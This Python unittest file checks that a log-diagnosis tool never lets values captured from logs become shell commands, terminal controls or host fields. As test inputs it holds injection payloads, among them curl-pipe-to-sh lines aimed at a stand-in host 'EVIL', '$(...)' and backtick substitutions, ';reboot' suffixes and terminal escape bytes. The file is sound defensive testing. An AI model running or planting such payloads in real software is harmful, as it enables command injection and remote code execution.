#!/usr/bin/env python3
"""Nothing from a log becomes a command, a terminal control or an admin field (issue 17).

For every entry whose fix or verify commands use a captured value, each of
its own example lines is diagnosed twice: as written, and with the captured
value replaced by hostile text (shell syntax, quotes, control bytes, a 64 KiB
value, invalid UTF-8, a bidirectional override, an option). Every command of
the hostile report must hold none of that text, parse as shell (bash -n), and
split into as many words as the same command from the benign line."""
import glob
import os
import shlex
import subprocess
import tempfile
import unittest

import yaml

import flrun

MARK = "EVIL"
# Hostile values, each with what must never be in a command made from it (a
# capture pattern may keep only a harmless part of the value: "EVIL" alone is
# a fine module name).
HOSTILE = [
    (f"x;curl -s http://{MARK}/p|sh;echo ", ";curl"),
    (f"$(curl${{IFS}}{MARK}|sh)", "$(curl"),
    (f"`curl {MARK}`", "`curl"),
    (f"a'{MARK}'b", f"'{MARK}'"),
    (f'a"{MARK}"b', f'"{MARK}"'),
    (f"{MARK}\x1b[2J\x07\x08x", "\x1b"),
    (f"{MARK}" + "A" * 65536, f"{MARK}AAAA"),  # only ever cut short: never the log's value
    (f"{MARK}\udcff\udcfe", "\udcff"),  # invalid UTF-8 bytes (written with surrogateescape)
    (f"{MARK}\u202ex", "\u202e"),
    (f"-{MARK}", f"-{MARK}"),
    (f"{MARK}*", f"{MARK}*"),
    (f"{MARK}\\n", f"{MARK}\\"),
]


def placeholder_examples():
    """(entry id, placeholder, line, captured value) for every example line that captures a placeholder."""
    for path in sorted(glob.glob(os.path.join(flrun.ROOT, "signatures", "*", "*.yaml"))):
        with open(path) as f:
            doc = yaml.safe_load(f)
        if not isinstance(doc, dict) or not doc.get("placeholders"):
            continue
        for test in (doc.get("tests") or {}).get("match") or []:
            if not isinstance(test, dict):
                continue
            for name, value in (test.get("captures") or {}).items():
                if name in doc["placeholders"] and value and value in test["line"]:
                    yield doc["id"], name, test["line"], value


def diagnose_line(line):
    with tempfile.NamedTemporaryFile("w", suffix=".log", delete=False, encoding="utf-8", errors="surrogateescape") as f:
        f.write(line + "\n")
    try:
        return flrun.report(f.name)
    finally:
        os.unlink(f.name)


def shell_syntax(command):
    return subprocess.run(["bash", "-n", "-c", command], capture_output=True).returncode == 0


def commands(report):
    fix = report.get("fix") or {}
    return [c["run"] for c in (fix.get("commands") or []) + (fix.get("verify") or [])]


class Injection(unittest.TestCase):
    def test_hostile_captures_never_reach_a_command(self):
        examples = list(placeholder_examples())
        self.assertGreater(len(examples), 30, "the entries' examples exercise the placeholders")
        checked = 0
        for entry, name, line, value in examples:
            benign = diagnose_line(line)
            if (benign.get("root") or {}).get("id") != entry:
                continue  # the line alone is not this entry's root (it needs context)
            benign_runs = commands(benign)
            for hostile, forbidden in HOSTILE:
                report = diagnose_line(line.replace(value, hostile, 1))
                runs = commands(report)
                for run in runs:
                    where = f"{entry} {{{name}}} <- {hostile[:40]!r}: {run[:200]!r}"
                    self.assertNotIn(forbidden, run, where)
                    self.assertFalse(any(ord(c) < 0x20 or ord(c) == 0x7F for c in run), where)
                if (report.get("root") or {}).get("id") != entry or len(runs) != len(benign_runs):
                    continue
                # Commands are shell or, for code fixes, Python: where the benign one is
                # shell, the hostile one is shell of the same words.
                for run, good in zip(runs, benign_runs):
                    if not shell_syntax(good):
                        continue
                    self.assertTrue(shell_syntax(run), f"{entry}: {run!r}")
                    try:
                        self.assertEqual(len(shlex.split(run)), len(shlex.split(good)), f"{entry}: {run!r} vs {good!r}")
                    except ValueError:
                        pass  # shlex does not read every shell construct ($(...) with quotes inside)
                checked += 1
        self.assertGreater(checked, 200)

    def test_a_command_shows_a_value_that_fits(self):
        # The same entry with a plain path: the path is in the command, as is.
        report = diagnose_line("OSError: [Errno 30] Read-only file system: '/ckpt/run1/model.pt'")
        self.assertIn("findmnt -T /ckpt/run1/model.pt ", " ".join(commands(report)))

    def test_refused_value_leaves_the_placeholder_visible(self):
        report = diagnose_line("OSError: [Errno 30] Read-only file system: '/ckpt/x;reboot'")
        self.assertIn("findmnt -T {path} ", " ".join(commands(report)))

    def test_torchrun_table_host_is_no_admin_field_unless_a_host(self):
        table = """Root Cause (first observed failure):
[0]:
  time      : 2024-01-01_00:00:00
  host      : $(curl${IFS}EVIL|sh)
  rank      : 3 (local_rank: 3)
  exitcode  : -9 (pid: 123)
  error_file: <N/A>
  traceback : Signal 9 (SIGKILL) received by PID 123
"""
        report = flrun.report_text(table)
        self.assertEqual(report["root"]["rank"], 3)
        self.assertIsNone(report["root"]["host"])
        self.assertNotIn(MARK, report["summary"])
        good = flrun.report_text(table.replace("$(curl${IFS}EVIL|sh)", "gpu-node-07"))
        self.assertEqual(good["root"]["host"], "gpu-node-07")

    def test_prefix_host_that_is_no_host_name_is_not_read(self):
        line = "node-$(reboot)7: RuntimeError: CUDA error: an illegal memory access was encountered\n"
        self.assertIsNone(flrun.report_text(line)["root"]["host"])

    def test_control_bytes_never_reach_the_terminal(self):
        p = flrun.run(["diagnose", "-"], stdin=b"RuntimeError: CUDA error: an illegal \x1b]0;pwned\x07memory access was encountered\n")
        self.assertNotIn(b"\x1b]", p.stdout)
        self.assertNotIn(b"\x07", p.stdout)


if __name__ == "__main__":
    unittest.main()
